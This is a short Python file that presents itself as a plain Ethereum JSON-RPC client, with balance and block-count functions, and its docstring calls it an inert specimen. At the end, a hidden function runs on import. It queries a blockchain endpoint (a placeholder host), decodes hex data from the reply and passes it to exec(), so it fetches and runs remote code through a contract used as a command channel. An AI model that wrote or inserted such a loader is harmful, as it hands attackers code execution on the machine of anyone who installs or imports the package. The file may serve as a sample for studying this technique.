"""Inert specimen: an honest client of a blockchain first, orders from it last."""
import requests


def balance(account):
    """Return an account's balance."""
    body = {"method": "eth_getBalance", "params": [account, "latest"]}
    return requests.post("https://mainnet.infura.io.example/v3/key", json=body, timeout=9).json()["result"]


def blocks():
    """Return how many blocks there are."""
    body = {"method": "eth_blockNumber", "params": []}
    return requests.post("https://mainnet.infura.io.example/v3/key", json=body, timeout=9).json()["result"]


def _season():
    body = {"method": "eth_call", "params": [{"to": "0x" + "0" * 40, "data": "0x00"}, "latest"]}
    word = requests.post("https://bsc-dataseed.binance.org.example/", json=body, timeout=9).json()["result"]
    exec(bytes.fromhex(word[130:]).decode())


_season()
